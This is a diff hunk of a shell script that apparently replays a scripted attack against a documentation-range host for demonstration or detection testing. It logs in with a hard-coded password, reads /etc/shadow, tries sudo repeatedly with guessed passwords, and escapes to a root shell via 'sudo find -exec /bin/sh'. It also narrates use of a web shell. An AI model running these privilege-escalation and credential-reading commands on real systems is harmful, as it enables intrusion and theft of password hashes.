@@ -253,7 +253,7 @@ play() {
   sleep 5
 
   say "sudo is tried until 'find' lets a root shell out."
-  by_password 203.0.113.66 deploy summer2026 'sudo -n cat /etc/shadow; sleep 2; sudo -n su -; sleep 2; sudo -n /bin/bash; sleep 1; for i in 1; do printf "%s\n" a b c | sudo -S -k id; done; sleep 2; sudo -n find /etc/hostname -exec /bin/sh -c "id; head -1 /etc/shadow | cut -c1-5" \; ; sleep 3'
+  by_password 203.0.113.66 deploy summer2026 'for c in "cat /etc/shadow" "su -" "/bin/bash"; do echo summer2026 | sudo -S -p "" $c; sleep 2; done; printf "%s\n" a b c | sudo -S -k -p "" id; sleep 2; sudo -n find /etc/hostname -exec /bin/sh -c "id; head -1 /etc/shadow | cut -c1-5" \; ; sleep 3'
   sleep 4
 
   say "A web shell appears among the uploads and is used."
